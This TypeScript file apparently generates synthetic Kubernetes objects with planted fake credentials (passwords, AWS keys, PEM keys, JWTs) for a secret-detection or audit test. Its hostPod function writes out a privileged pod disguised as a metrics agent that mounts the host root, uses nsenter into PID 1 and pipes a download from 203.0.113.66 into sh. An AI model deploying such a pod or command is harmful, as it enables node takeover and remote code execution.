import { goJson } from './go-json.ts';
import { alphabets } from './random.ts';
import type { Scene } from './scene.ts';

export const serviceAccountToken = '/var/run/secrets/kubernetes.io/serviceaccount/token';

export interface Workload {
  readonly name: string;
  readonly namespace: string;
  readonly pod: string;
  readonly ip: string;
  readonly node: string;
}

const resources = { limits: { cpu: '500m', memory: '256Mi' }, requests: { cpu: '100m', memory: '128Mi' } };

/** A container as developers write them: two settings, and secrets that should have been references. */
export function container(scene: Scene, name: string, image: string, where: string): object {
  const { plant } = scene;
  return {
    name,
    image,
    args: ['--listen=:8443', `--admin-password=${plant.password(`${where}: argument`)}`, '--log-format=json'],
    env: [
      { name: 'LOG_LEVEL', value: 'info' },
      { name: 'DB_PASSWORD', value: plant.password(`${where}: env`) },
      { name: 'AWS_ACCESS_KEY_ID', value: plant.awsKey(`${where}: env`) },
      { name: 'SESSION_SECRET', valueFrom: { secretKeyRef: { name: 'checkout-session', key: 'secret' } } },
      {
        name: 'JAVA_OPTS',
        value: `-Xmx512m -Dspring.datasource.password=${plant.password(`${where}: option in env`)} -Dfile.encoding=UTF-8`,
      },
    ],
    ports: [{ containerPort: 8443, name: 'https', protocol: 'TCP' }],
    resources,
    securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true },
  };
}

/** A Deployment as `kubectl apply` sends it: everything stands a second time in the last-applied annotation, as text. */
export function appliedDeployment(scene: Scene, workload: Workload, image: string): object {
  const labels = { app: workload.name };
  const spec = {
    replicas: 2,
    selector: { matchLabels: labels },
    template: {
      metadata: { labels },
      spec: {
        containers: [container(scene, workload.name, image, `Deployment ${workload.name}`)],
        serviceAccountName: workload.name,
      },
    },
  };
  const identity = { name: workload.name, namespace: workload.namespace };
  const applied = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { annotations: {}, ...identity }, spec };
  return {
    kind: 'Deployment',
    apiVersion: 'apps/v1',
    metadata: { ...identity, annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `${goJson(applied)}\n` } },
    spec,
  };
}

export function secret(scene: Scene, namespace: string, name: string): object {
  const { plant, random } = scene;
  const where = `Secret ${namespace}/${name}`;
  const password = random.chars(20, alphabets.alphanumeric);
  const url = `postgres://checkout:${random.chars(18, alphabets.alphanumeric)}@db.shop.svc:5432/orders`;
  return {
    kind: 'Secret',
    apiVersion: 'v1',
    metadata: { name, namespace, uid: random.uuid(), resourceVersion: String(random.between(20_000, 90_000)) },
    data: {
      password: plant.secretData(where, password),
      url: plant.secretData(where, url),
      'tls.key': plant.secretData(where, plant.pem(where)),
    },
    type: 'Opaque',
  };
}

/** What a `list` of secrets returns: the items carry no kind of their own. */
export function secretList(scene: Scene, names: readonly (readonly [namespace: string, name: string])[]): object {
  const items = names.map(([namespace, name]) => {
    const { kind: _kind, apiVersion: _version, ...item } = secret(scene, namespace, name) as Record<string, unknown>;
    return item;
  });
  return { kind: 'SecretList', apiVersion: 'v1', metadata: { resourceVersion: '91422' }, items };
}

export function configMap(scene: Scene, namespace: string, name: string): object {
  const { plant } = scene;
  const where = `ConfigMap ${namespace}/${name}`;
  const yaml = [
    'server:',
    '  timeout: 30s',
    'smtp:',
    '  host: mail.example.com',
    `  password: ${plant.password(where)}`,
    '  from: shop@example.com',
  ];
  const settings = {
    db: { host: 'db.shop.svc', user: 'checkout', password: plant.password(`${where}: JSON in a string`) },
    limits: { rps: 500 },
  };
  return {
    kind: 'ConfigMap',
    apiVersion: 'v1',
    metadata: { name, namespace },
    data: {
      'app.yaml': `${yaml.join('\n')}\n`,
      'settings.json': JSON.stringify(settings, null, 2),
      'deploy_key.pem': plant.pem(where),
    },
  };
}

export function tokenReview(
  scene: Scene,
  subject: string,
  where: string,
): { readonly request: object; readonly response: object } {
  const spec = { token: scene.plant.jwt(where, subject) };
  const head = { kind: 'TokenReview', apiVersion: 'authentication.k8s.io/v1', metadata: {} };
  return {
    request: { ...head, spec, status: { user: {} } },
    response: { ...head, spec, status: { authenticated: true, user: { username: subject, groups: ['system:serviceaccounts'] } } },
  };
}

/** A pod that owns its node: privileged, in the host's namespaces, with the host's file system. */
export function hostPod(scene: Scene, namespace: string, name: string): object {
  const command = [
    'nsenter',
    '--target',
    '1',
    '--mount',
    '--',
    'sh',
    '-c',
    `curl -u agent:${scene.plant.bearer(`Pod ${name}: command`)} https://203.0.113.66/stage2 | sh`,
  ];
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name, namespace, labels: { 'k8s-app': 'node-metrics-agent' } },
    spec: {
      hostPID: true,
      hostNetwork: true,
      nodeName: 'worker-2',
      containers: [
        {
          name: 'agent',
          image: 'docker.io/library/alpine:3.20',
          command,
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'root', mountPath: '/host' }],
        },
      ],
      volumes: [{ name: 'root', hostPath: { path: '/', type: 'Directory' } }],
      tolerations: [{ operator: 'Exists' }],
    },
  };
}
